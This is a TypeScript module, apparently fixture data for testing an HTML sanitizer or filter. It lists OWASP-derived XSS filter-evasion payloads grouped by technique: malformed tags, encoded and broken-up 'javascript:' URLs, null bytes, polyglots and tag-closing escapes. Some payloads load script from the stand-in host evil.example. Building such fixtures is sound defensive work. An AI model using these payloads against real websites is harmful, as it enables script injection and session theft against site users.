/** Attacks that disguise a script from a filter: the first half of OWASP's XSS Filter Evasion Cheat Sheet. */

const JS_IN_DECIMAL = [...'javascript:alert(1)'].map((letter) => `&#${letter.charCodeAt(0)};`).join('');
const JS_IN_LONG_DECIMAL = [...'javascript:alert(1)']
  .map((letter) => `&#${String(letter.charCodeAt(0)).padStart(7, '0')}`)
  .join('');
const JS_IN_HEX = [...'javascript:alert(1)']
  .map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`)
  .join('');

export const EVASION_ATTACKS: Readonly<Record<string, readonly string[]>> = {
  'Basic XSS test without filter evasion': [
    '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
    '<script>alert(1)</script>',
    '<script type="module">import "https://evil.example/xss.js"</script>',
  ],
  'XSS locator (polyglot)': [
    String.raw`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
    String.raw`';alert(1)//';alert(1)//";alert(1)//";alert(1)//--></SCRIPT>">'><SCRIPT>alert(1)</SCRIPT>`,
  ],
  'Malformed A tags': [
    '<a onmouseover="alert(1)">A price list</a>',
    '<a onmouseover=alert(1)>A price list</a>',
    String.raw`\<a onmouseover="alert(1)"\>A price list\</a\>`,
    '<a href="/coverage/" /onclick="alert(1)" x>A price list',
  ],
  'Malformed IMG tags': [
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """ src=x onerror=alert(1) """>',
  ],
  fromCharCode: [
    '<a href="javascript:alert(String.fromCharCode(88,83,83))">Read more</a>',
    '<img src=x onerror="alert(String.fromCharCode(88,83,83))">',
  ],
  'Default SRC tag to get past filters that check SRC domain': [
    '<IMG SRC=# onmouseover="alert(1)">',
    '<IMG SRC="/" onmouseenter="alert(1)" onload="alert(1)">',
  ],
  'Default SRC tag by leaving it empty': ['<IMG SRC= onmouseover="alert(1)">'],
  'Default SRC tag by leaving it out entirely': ['<IMG onmouseover="alert(1)">'],
  'On error alert': [
    '<IMG SRC=/ onerror="alert(1)"></img>',
    '<img src=x:x onerror=alert(1)>',
    '<img src="https://evil.example/404.png" onerror="alert(1)">',
  ],
  'IMG onerror and JavaScript alert encode': [
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    String.raw`<img src=x onerror="\u0061\u006cert(1)">`,
  ],
  'Decimal HTML character references': [`<a href="${JS_IN_DECIMAL}">Read more</a>`],
  'Decimal HTML character references without trailing semicolons': [
    `<a href="${JS_IN_LONG_DECIMAL}">Read more</a>`,
    `<img src=${JS_IN_LONG_DECIMAL}>`,
  ],
  'Hexadecimal HTML character references without trailing semicolons': [
    `<a href="${JS_IN_HEX}">Read more</a>`,
    `<iframe src="${JS_IN_HEX}"></iframe>`,
  ],
  'Embedded tab': ['<a href="jav\tascript:alert(1);">Read more</a>', '<IMG SRC="jav\tascript:alert(1);">'],
  'Embedded encoded tab': ['<a href="jav&#x09;ascript:alert(1);">Read more</a>'],
  'Embedded newline to break up XSS': [
    '<a href="jav&#x0A;ascript:alert(1);">Read more</a>',
    '<a href="j\na\nv\nascript:alert(1)">Read more</a>',
  ],
  'Embedded carriage return to break up XSS': [
    '<a href="jav&#x0D;ascript:alert(1);">Read more</a>',
    '<IMG\rSRC\r=\r"\rjavascript:alert(1)">',
  ],
  'Null breaks up JavaScript directive': [
    '<a href="java\0script:alert(1)">Read more</a>',
    '<SCR\0IPT>alert(1)</SCR\0IPT>',
    '<img src=x o\0nerror=alert(1)>',
  ],
  'Spaces and meta characters before the JavaScript in images for XSS': [
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    '<a href=" &#14;  javascript:alert(1);">Read more</a>',
    '<a href="\u0001\u0002javascript:alert(1)">Read more</a>',
    '<a href="\u00a0javascript:alert(1)">Read more</a>',
  ],
  'Non-alpha-non-digit XSS': [
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
    '<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>',
    '<img/src=x/onerror=alert(1)>',
  ],
  'Extraneous open brackets': ['<<SCRIPT>alert(1);//\\<</SCRIPT>', '<<<<img src=x onerror=alert(1)>'],
  'No closing script tags': ['<SCRIPT SRC=https://evil.example/xss.js?< B >', '<script>alert(1)'],
  'Protocol resolution in script tags': ['<SCRIPT SRC=//evil.example/.j>', '<img src=//evil.example/p.gif>'],
  'Half open HTML/JavaScript XSS vector': [
    '<IMG SRC="`<javascript:alert>`(1)"',
    '<img src=x onerror=alert(1) ',
    '<a href="javascript:alert(1)" ',
  ],
  'Double open angle brackets': [
    '<iframe src=https://evil.example/frame.html <',
    '<img src=x onerror=alert(1) <',
  ],
  'Escaping JavaScript escapes': [
    String.raw`\";alert(1);//`,
    String.raw`</script><script>alert(1);</script>`,
    String.raw`'-alert(1)-'`,
    String.raw`\u003cimg src=x onerror=alert(1)\u003e`,
    String.raw`\x3cscript\x3ealert(1)\x3c/script\x3e`,
  ],
  'End title tag': [
    '</TITLE><SCRIPT>alert(1);</SCRIPT>',
    '</textarea><img src=x onerror=alert(1)>',
    '</noscript><img src=x onerror=alert(1)>',
  ],
};
